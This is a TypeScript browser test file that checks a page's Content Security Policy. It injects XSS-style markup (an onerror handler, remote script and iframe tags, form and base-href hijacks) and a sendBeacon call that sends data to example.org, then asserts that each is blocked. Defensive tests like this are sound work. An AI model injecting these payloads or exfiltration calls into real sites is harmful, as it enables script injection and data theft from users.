import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { leave, useBrowser, visit } from './support/browser.ts';

useBrowser();

let page: Page;

beforeAll(async () => {
  page = await visit('/');
  // Here the policy is to stop something, and what it stops fails.
  page.removeAllListeners('console').removeAllListeners('pageerror');
});
afterAll(() => leave(page));

// What somebody could do whose text the page had taken for markup.
test.each([
  ['run a script', '<img src="x" onerror="document.title = 1">', 'script-src-attr'],
  ['fetch a script', '<script src="https://example.org/x.js"></script>', 'script-src-elem'],
  ['send what the page shows in a picture’s address', '<img src="https://example.org/?x">', 'img-src'],
  ['lay another page over this one', '<iframe src="https://example.org"></iframe>', 'frame-src'],
  ['send a form elsewhere', '<form action="https://example.org"><button>', 'form-action'],
  ['turn addresses elsewhere', '<base href="https://example.org">', 'base-uri'],
])('markup that slipped into the page could not %s', async (_what, markup, directive) => {
  const stopped = await page.evaluate(
    (slipped) =>
      new Promise<string>((resolve) => {
        const told = ({ effectiveDirective }: SecurityPolicyViolationEvent) => resolve(effectiveDirective);
        document.addEventListener('securitypolicyviolation', told, { once: true });
        document.body.append(document.createRange().createContextualFragment(slipped));
        document.body.querySelector<HTMLButtonElement>(':scope > form > button')?.click();
      }),
    markup,
  );
  expect(stopped).toBe(directive);
});

test('a script in the page could not send what it has read to a stranger', async () => {
  const stopped = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const told = ({ effectiveDirective }: SecurityPolicyViolationEvent) => resolve(effectiveDirective);
        document.addEventListener('securitypolicyviolation', told, { once: true });
        navigator.sendBeacon('https://example.org', 'read');
      }),
  );
  expect(stopped).toBe('connect-src');
});
